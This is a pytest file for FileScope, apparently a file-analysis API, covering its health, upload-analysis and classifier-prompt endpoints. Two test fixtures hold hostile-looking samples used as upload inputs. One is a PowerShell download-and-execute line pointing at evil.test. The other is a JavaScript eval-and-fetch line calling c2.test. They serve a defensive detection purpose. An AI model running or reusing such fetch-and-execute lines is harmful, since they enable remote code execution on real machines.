"""
FileScope API Tests

Tests for the health, analyze and prompt endpoints.
"""

import pytest
from fastapi.testclient import TestClient

from filescope.config import Settings, get_settings
from filescope.main import create_app
from filescope.services.classifier import SYSTEM_PROMPT
from filescope.utils.constants import (
    PROGRESS_DONE,
    PROGRESS_HASHING,
    PROGRESS_SCRIPT,
)


@pytest.fixture
def app():
    application = create_app()
    yield application
    application.dependency_overrides.clear()


@pytest.fixture
def client(app):
    with TestClient(app) as test_client:
        yield test_client


class TestHealthEndpoint:
    """Tests for the health check."""

    def test_health(self, client):
        """Test health reports service name and version."""
        response = client.get("/api/v1/health")

        assert response.status_code == 200
        data = response.json()
        assert data["status"] == "healthy"
        assert data["service"] == "filescope-api"
        assert data["version"] == get_settings().app_version
        assert "timestamp" in data

    def test_root(self, client):
        """Test root endpoint returns API info."""
        response = client.get("/")

        assert response.status_code == 200
        assert response.json()["docs"] == "/docs"


class TestAnalyzeEndpoint:
    """Tests for file upload analysis."""

    def test_analyze_script(self, client):
        """Test a script upload returns progress and the report document."""
        content = b"IEX (New-Object Net.WebClient).DownloadString('http://evil.test/p')"
        response = client.post(
            "/api/v1/analyze",
            files={"file": ("stage.ps1", content, "text/plain")},
            data={"last_modified": "2024-03-01T08:30:00+00:00"},
        )

        assert response.status_code == 200
        data = response.json()
        assert data["progress"][0] == PROGRESS_HASHING
        assert PROGRESS_SCRIPT in data["progress"]
        assert data["progress"][-1] == PROGRESS_DONE

        report = data["report"]
        assert report["fileInfo"]["name"] == "stage.ps1"
        assert report["fileInfo"]["size"] == len(content)
        assert report["fileInfo"]["type"] == "text/plain"
        assert report["fileInfo"]["lastModified"].startswith("2024-03-01T08:30:00")
        assert report["extractedUrls"] == ["http://evil.test/p"]
        assert report["textContent"] == content.decode()
        assert "archiveContents" not in report

    def test_analyze_zip(self, client, zip_bytes):
        """Test a ZIP upload lists its entries."""
        response = client.post(
            "/api/v1/analyze",
            files={"file": ("bundle.zip", zip_bytes, "application/zip")},
        )

        assert response.status_code == 200
        assert response.json()["report"]["archiveContents"] == [
            "readme.txt", "bin/", "bin/payload.exe",
        ]

    def test_empty_file(self, client):
        """Test an empty upload still produces a report."""
        response = client.post(
            "/api/v1/analyze",
            files={"file": ("empty.bin", b"", "application/octet-stream")},
        )

        assert response.status_code == 200
        report = response.json()["report"]
        assert report["entropy"] == 0.0
        assert report["strings"] == []

    def test_file_too_large(self, app, client):
        """Test uploads above the limit are rejected with 413."""
        app.dependency_overrides[get_settings] = lambda: Settings(max_file_size_mb=1)

        response = client.post(
            "/api/v1/analyze",
            files={"file": ("big.bin", b"\x00" * (1024 * 1024 + 1), "application/octet-stream")},
        )

        assert response.status_code == 413
        data = response.json()
        assert data["error"] == "FileTooLargeError"
        assert "Limit is 1 MB" in data["detail"]

    def test_missing_file(self, client):
        """Test a request without a file fails validation."""
        response = client.post("/api/v1/analyze")
        assert response.status_code == 422


class TestPromptEndpoint:
    """Tests for the classifier prompt endpoint."""

    def test_prompt(self, client):
        """Test the prompt is rendered from the report."""
        response = client.post(
            "/api/v1/analyze/prompt",
            files={"file": (
                "dropper.js",
                b"eval(atob('x')); fetch('http://c2.test/')",
                "application/javascript",
            )},
        )

        assert response.status_code == 200
        data = response.json()
        assert data["report"]["hashes"]["sha256"] in data["prompt"]
        assert '"dropper.js"' in data["prompt"]
        assert "http://c2.test/" in data["prompt"]
        assert "Script Content Analysis" in data["prompt"]
        assert data["system"] == SYSTEM_PROMPT
